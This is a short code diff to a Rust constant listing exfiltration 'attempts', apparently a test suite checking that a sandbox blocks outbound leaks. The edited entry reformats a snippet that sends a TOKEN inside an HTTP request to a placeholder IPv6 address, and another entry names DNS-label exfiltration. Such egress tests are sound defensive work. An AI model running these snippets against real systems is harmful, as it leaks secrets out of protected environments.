@@ -41,7 +41,10 @@ pub(super) const ATTEMPTS: [Attempt; 14] = [
     sink(
         "a raw IPv6 address",
         "every dial lands on one listener; no name, no way",
-        "raw('2001:db8::9', b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' + TOKEN.encode(), port=80, tls=False)",
+        r"
+data = b'GET / HTTP/1.1\r\nHost: x\r\n\r\n' + TOKEN.encode()
+raw('2001:db8::9', data, port=80, tls=False)
+",
     ),
     sink(
         "in the labels of a DNS query",
